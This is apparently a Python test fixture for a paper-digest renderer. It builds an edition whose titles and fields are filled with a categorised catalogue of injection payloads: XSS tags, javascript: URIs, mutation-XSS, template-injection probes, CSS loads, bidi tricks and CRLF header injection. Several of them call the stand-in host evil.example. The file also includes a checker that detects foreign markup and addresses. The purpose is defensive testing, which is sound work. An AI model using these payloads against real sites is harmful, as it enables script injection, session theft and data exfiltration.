"""Attacks by kind, and an edition in which strangers and a model have written them wherever they can.

Each would call ``alert`` or ask ``evil.example`` for something, change what a page is made of, or leave the place that
it stands in. Whoever shows them has to show them as text.
"""

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, replace

from selectolax.lexbor import LexborHTMLParser, LexborNode

from achim.domain.edition import Edition, Gap, Listing, Section
from achim.domain.ids import PaperId
from achim.domain.note import Note
from achim.render.inert import whole
from tests.editions import TOPICS, Told, cite, full_day, make_entry, make_ledger, make_update, quoted, said

VECTORS: Mapping[str, Sequence[str]] = {
    "script": (
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script/x>alert(1)</script/x>",
        "<script\n>alert(1)</script\t>",
        "<<script>alert(1)//<</script>",
        "</script><script>alert(1)</script>",
        "<script>alert`1`",
        "＜script＞alert(1)＜/script＞",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&amp;lt;script&amp;gt;alert(1)",
    ),
    "event handlers": (
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)//",
        "<img src=x onerror\x0b=\x0balert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        '" onmouseover="alert(1)',
        "' onfocus='alert(1)' autofocus='",
        '"><img src=x onerror=alert(1)>',
        "'><svg onload=alert(1)>",
        "` onmouseover=alert(1) ",
        "x onerror=alert(1) y=",
        '</title><img src=x onerror=alert(1)>',
        "</textarea><img src=x onerror=alert(1)>",
        "</option></select><img src=x onerror=alert(1)>",
    ),
    "SVG and MathML": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href='data:text/javascript,alert(1)'/></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
        "<math href='javascript:alert(1)'>x</math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "javascript://example.org/%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "view-source:javascript:alert(1)",
        "https://example.org/\"onmouseover=\"alert(1)",
        "https://example.org/'><script>alert(1)</script>",
        "https://user:password@evil.example/",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https://[",
        "file:///etc/passwd",
        "blob:https://evil.example/x",
    ),
    "markup that loads or leads away": (
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<iframe src=//evil.example/></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//evil.example/x></object>",
        "<embed src=//evil.example/x>",
        "<form action=//evil.example/><button>Sign in</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<a href=javascript:alert(1)>x</a>",
        "<img src=//evil.example/pixel.gif>",
        "<portal src=//evil.example/></portal>",
        "<template><img src=x onerror=alert(1)></template>",
        "<plaintext>",
        "<xmp><img src=x onerror=alert(1)>",
    ),
    "templates": (
        "{{ 7*7 }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{# comment #}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
        "%(x)s %s {0} {x.__class__}",
    ),
    "CSS": (
        "<style>*{background:url(//evil.example/x)}</style>",
        "</style><style>@import '//evil.example/x.css';</style>",
        "<p style=background:url(//evil.example/x)>x</p>",
        "</style><script>alert(1)</script>",
        "expression(alert(1))",
    ),
    "signs that act": (
        "safe\u202egpj.exe",
        "a\u2066b\u2069c\u200e\u200f\u061c",
        "nul\x00<scr\x00ipt>alert(1)</script>",
        "\ufeff\u200b<\u200bscript>alert(1)</script>",
        "escape \x1b[31mred\x1b[0m \x9b31m",
        "lone \ud800 surrogate <b>",
        "tag \U000e0041\U000e007f letters",
        "line\u2028end\u2029 and\x85more",
    ),
    "markup that changes when it is read again": (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<table><td><form><img src=x onerror=alert(1)></table>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><script>alert(1)</script>",
        "<a><b><a><b><a><b>",
        "</main></body></html><script>alert(1)</script>",
    ),
    "Markdown": (
        "[x](javascript:alert(1))",
        "![x](//evil.example/x.png)",
        "[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "`<script>alert(1)</script>`",
        "[x](https://example.org \"title\" onclick=alert(1))",
    ),
    "headers": (
        "x\r\nSet-Cookie: achim_session=stolen",
        "x\r\n\r\n<script>alert(1)</script>",
        "x%0d%0aLocation:%20//evil.example",
        "x\nContent-Type: text/html",
    ),
}  # fmt: skip
ALL: tuple[str, ...] = tuple(vector for each in VECTORS.values() for vector in each)
HARMLESS = "Plain words of a title"
_ATTRIBUTES_WITH_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "cite")
_SAFE = ("http://", "https://", "data:image/png;base64,")


def attacked_day(vectors: Sequence[str] = ALL, lang: str = "en") -> Edition:
    """A paper for each vector, which its title, authors, abstract, address and keywords, and a model, repeat."""
    vectors = tuple(map(whole, vectors))  # what is kept is UTF-8
    topic = replace(TOPICS["llm"], name=vectors[0], korean=vectors[0], color=vectors[0])
    told = [_told(number, vector) for number, vector in enumerate(vectors, 1)]
    entries = tuple(make_entry(number, each) for number, each in enumerate(told, 1))
    claims = tuple(
        claim
        for each in told
        for claim in (
            said("gist", each.title, cite(each, 1)),
            quoted(each, "problem", 1),
            said("result", each.title, cite(each, 2)),
            said("impact", each.title, cite(each, 1), view=True),
        )
    )
    sections = (Section(topic, entries, claims),)
    day = full_day(lang)
    return replace(
        day,
        sections=sections,
        lead=(said("lead", vectors[0], cite(told[0], 1)),),
        listed=tuple(Listing(PaperId(f"url:{each}"), each, each, 0.1) for each in dict.fromkeys(vectors)),
        updates=(make_update(vectors[-1], vectors[-1]),),
        gaps=tuple(Gap(each, Note.of("fetch.private_address", host=each)) for each in vectors[:5]),
        ledger=replace(make_ledger(sections), makers=(("writer", vectors[0]),)),
    )


def _told(number: int, vector: str) -> Told:
    return Told(
        "llm", f"2411.{number:05}", vector, (vector, f"A. {vector}"),
        (f"{vector} is shown.", f"It gains 3 points {vector}"), (("problem", 1),), (vector,),
        votes=1, code=vector, url=vector,
    )  # fmt: skip


@dataclass(frozen=True, slots=True)
class Shape:
    """Of which elements, with which attributes, a page is made."""

    elements: frozenset[tuple[str, frozenset[str]]]

    @classmethod
    def of(cls, *pages: str) -> "Shape":
        return cls(frozenset(_element(node) for page in pages for node in _nodes(page)))

    def foreign(self, page: str) -> list[str]:
        """What a page has that this one has not, and addresses that lead where none of ours does."""
        odd = {_element(node) for node in _nodes(page)} - self.elements
        return sorted(f"{tag} {sorted(attributes)}" for tag, attributes in odd) + [
            told for node in _nodes(page) for told in _bad_addresses(node)
        ]


def _nodes(page: str) -> Iterator[LexborNode]:
    root = LexborHTMLParser(page).root
    yield from root.css("*") if root else ()


def _element(node: LexborNode) -> tuple[str, frozenset[str]]:
    return node.tag or "", frozenset(node.attributes)


def _bad_addresses(node: LexborNode) -> Iterator[str]:
    for name in _ATTRIBUTES_WITH_ADDRESSES:
        address = node.attributes.get(name)
        if address is None:
            continue
        bare = "".join(char for char in address if char > " ").lower()
        if bare.startswith(("//", "\\")) or (
            ":" in bare.partition("/")[0].partition("?")[0] and not bare.startswith(_SAFE)
        ):
            yield f"{name}={address!r}"
